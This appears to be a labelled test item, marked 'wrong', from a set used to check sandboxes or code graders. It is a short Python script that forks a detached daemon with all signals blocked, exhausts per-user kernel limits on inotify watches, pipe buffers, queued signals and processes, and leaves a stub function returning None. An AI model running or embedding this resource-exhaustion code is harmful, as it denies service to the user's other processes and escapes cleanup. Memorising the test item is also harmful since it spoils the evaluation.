# what: leaves a daemon that uses up what the kernel counts per user: watches, pipes, pending signals, processes
# verdict: wrong
import ctypes
import os
import signal
import time

libc = ctypes.CDLL(None, use_errno=True)
if os.fork() == 0:
    os.setsid()
    signal.pthread_sigmask(signal.SIG_BLOCK, range(1, 65))
    for _ in range(300):
        libc.inotify_init1(0)
    for _ in range(200):
        try:
            ends = os.pipe()
            os.set_blocking(ends[1], False)
            os.write(ends[1], bytes(1 << 20))
        except OSError:
            pass
    for _ in range(20_000):
        libc.sigqueue(os.getpid(), 40, None)
    for _ in range(40):
        try:
            if os.fork() == 0:
                time.sleep(3600)
                os._exit(0)
        except OSError:
            break
    time.sleep(3600)
    os._exit(0)
time.sleep(0.5)


def double(x):
    return None
